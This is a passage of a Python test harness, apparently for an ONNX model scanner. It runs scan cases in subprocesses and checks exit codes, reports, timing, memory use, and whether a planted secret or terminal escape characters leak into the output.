    "open(os.environ['OG_RUSAGE'], 'w').write(str(peak))\n"
    "sys.exit(rc)\n"
)


@dataclass
class Outcome:
    case: Case
    rc: int
    stdout: str
    stderr: str
    report_text: str | None
    wall_s: float
    parent_maxrss_kb: int | None


def run_case(case: Case, out: Path, policy: Path) -> Outcome:
    import subprocess
    import time

    work = out / "runs" / case.name
    work.mkdir(parents=True, exist_ok=True)
    report = work / "report.json"
    rusage = work / "rusage"
    argv = [sys.executable, "-c", _WRAPPER, "scan", str(case.model), "--policy", str(case.policy or policy), "--out", str(report),
            "--no-sign", "-q", "--max-memory", str(MEMORY_MB), "--timeout", str(case.timeout_s), *case.args]
    env = dict(os.environ, OG_RUSAGE=str(rusage), ONNXGUARD_DEBUG="")
    env.pop("ONNXGUARD_DEBUG")
    t0 = time.monotonic()
    p = subprocess.run(argv, capture_output=True, env=env, timeout=case.timeout_s + 60, stdin=subprocess.DEVNULL)
    wall = time.monotonic() - t0
    rss = int(rusage.read_text()) if rusage.exists() else None
    return Outcome(case, p.returncode, p.stdout.decode("utf-8", "replace"), p.stderr.decode("utf-8", "replace"),
                   report.read_text(encoding="utf-8") if report.exists() else None, wall, rss)


def problems(o: Outcome, secret_text: str) -> list[str]:
    """Everything wrong with one outcome; empty when the case passed."""
    c = o.case
    bad = []
    everything = o.stdout + o.stderr + (o.report_text or "")
    if secret_text in everything or secret_text[:24] in everything:
        bad.append("the secret's content leaked into the output or report")
    if o.rc < 0:
        bad.append(f"the parent died of signal {-o.rc}")
    if o.rc not in c.expect_rc:
        bad.append(f"exit code {o.rc}, expected {c.expect_rc}")
    if "Traceback" in o.stderr or "internal error" in o.stderr:
        bad.append("a traceback or internal error reached the user")
    if "\x1b" in o.stdout + o.stderr or "\u202e" in o.stdout + o.stderr:
        bad.append("terminal escapes reached the terminal")
    if c.message and c.message not in o.stderr.lower():
        bad.append(f"stderr lacks '{c.message}': {o.stderr.strip()[-300:]!r}")
    if c.expect_rc and c.expect_rc[0] == 2 and c.one_line and len([ln for ln in o.stderr.splitlines() if ln.strip()]) != 1:
        bad.append(f"a bad input must give one message line, got: {o.stderr.strip()[-300:]!r}")
    if c.report:
        if o.report_text is None:
            bad.append("no report written")
        else:
            rep = json.loads(o.report_text)
            ids = {f["id"] for f in rep.get("static_findings", [])}
            for want in c.static_ids:
                if want not in ids:
                    bad.append(f"report lacks static finding '{want}' (has {sorted(ids)})")
            if 3 in c.expect_rc and rep["summary"]["verdict"] != "fail":
                bad.append("a crashed scan's report must say fail")
            if c.report_contains and c.report_contains not in (o.report_text or "").lower():
                bad.append(f"report lacks '{c.report_contains}'")
            if c.model_path_in_report is not None and rep["model"]["path"] != str(c.model_path_in_report):
                bad.append(f"report names the model {rep['model']['path']!r}, expected {str(c.model_path_in_report)!r}")
    limit = c.timeout_s + 15  # start-up of both processes on a loaded machine
    if o.wall_s > limit:
        bad.append(f"took {o.wall_s:.1f}s, over its {limit:.0f}s bound")
    return bad


def main(argv: list[str]) -> int:
    import argparse
    from concurrent.futures import ThreadPoolExecutor

    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("out", type=Path)
    ap.add_argument("--run", action="store_true", help="scan every case and print the figures")
    ap.add_argument("--jobs", type=int, default=2)
    a = ap.parse_args(argv)
    cases, secret, secret_text = build(a.out)
    print(f"{len(cases)} cases in {a.out / 'cases'}; secret at {secret}")
    if not a.run:
        return 0
    with ThreadPoolExecutor(a.jobs) as ex:
        outcomes = list(ex.map(lambda c: run_case(c, a.out, a.out / "policy.toml"), cases))
    failed = 0
    for o in outcomes:
        bad = problems(o, secret_text)
        failed += bool(bad)
        rss = f"{o.parent_maxrss_kb / 1024:.0f} MB" if o.parent_maxrss_kb else "-"
        print(f"{'PASS' if not bad else 'FAIL'} {o.case.name:<26} rc={o.rc} {o.wall_s:5.1f}s parent {rss}  {'; '.join(bad)}")
    worst = max(outcomes, key=lambda o: o.wall_s)
    big = max(outcomes, key=lambda o: o.parent_maxrss_kb or 0)
    print(f"corpus {len(cases)}, passed {len(cases) - failed}; worst time {worst.wall_s:.1f}s ({worst.case.name}); "
          f"peak parent memory {(big.parent_maxrss_kb or 0) / 1024:.0f} MB ({big.case.name})")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.path.insert(0, str(Path(__file__).resolve().parents[2]))
    sys.exit(main(sys.argv[1:]))
